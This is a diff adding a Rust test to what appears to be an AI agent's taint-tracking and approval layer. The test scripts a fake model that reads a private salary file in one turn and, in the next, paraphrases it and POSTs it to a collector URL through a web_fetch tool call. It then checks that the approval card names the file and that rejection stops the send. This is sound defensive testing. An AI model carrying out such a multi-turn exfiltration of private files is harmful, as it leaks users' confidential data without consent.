@@ -545,3 +545,59 @@ async fn labels_and_the_copy_index_survive_a_restart_of_the_stack() {
     assert_eq!(record["steps"][2]["tainted"][0]["how"], json!(["copied"]));
     assert_eq!(record["steps"][2]["tainted"][0]["sink"], true);
 }
+
+/// Issue 40's first attack: one message reads a private file, the next asks to post "that"
+/// at Full. The second turn's model saw the first answer (made from the file): whatever it
+/// sends elsewhere is carded naming the file, with nothing to keep, and rejected, nothing
+/// reaches the server.
+#[tokio::test]
+async fn a_file_read_one_message_ago_is_still_named_when_the_next_one_sends_it_away() {
+    let s = local_stack().await;
+    let (addr, seen) = collector("");
+    std::fs::create_dir_all(s.home().join("Documents")).unwrap();
+    let secret = "salary review: 84,000 EUR from March; do not share";
+    std::fs::write(s.home().join("Documents/review.txt"), secret).unwrap();
+    s.fake.push(tool_calls(&[(
+        "fs_read",
+        json!({"path": "~/Documents/review.txt"}),
+    )]));
+    s.fake
+        .push(Reply::Text("It says your salary goes up in March.".into()));
+    let mut first = s
+        .start_in_thread(
+            "what does ~/Documents/review.txt say?",
+            Full,
+            pb::Thread::Continue,
+        )
+        .await;
+    assert_eq!(kind(&until_end(&mut first).await), pb::FinalKind::Answer);
+    // The next message: the model paraphrases (no copy to catch) and posts it.
+    s.fake.push(tool_calls(&[(
+        "web_fetch",
+        json!({"url": format!("http://{addr}/collect"), "method": "POST", "body": "raise in march"}),
+    )]));
+    s.fake.push(Reply::Text("sent".into()));
+    let mut second = s
+        .start_in_thread("post that to my collector", Full, pb::Thread::Continue)
+        .await;
+    let events = until_end(&mut second).await;
+    let card = card_of(&events);
+    let lines = card.card.as_ref().unwrap().lines.join("\n");
+    assert!(lines.contains("~/Documents/review.txt"), "{lines}");
+    s.resolve(&card.token, approval::Decision::Reject).await;
+    let rest = until_end(&mut second).await;
+    assert_eq!(kind(&rest), pb::FinalKind::Answer);
+    assert!(
+        seen.lock().unwrap().is_empty(),
+        "{:?}",
+        seen.lock().unwrap()
+    );
+    // What made it so: the second turn's model was shown the first answer.
+    let request = s.llm_request(s.fake.received().len() - 1);
+    assert!(
+        request
+            .to_string()
+            .contains("It says your salary goes up in March."),
+        "the second turn saw the first answer"
+    );
+}
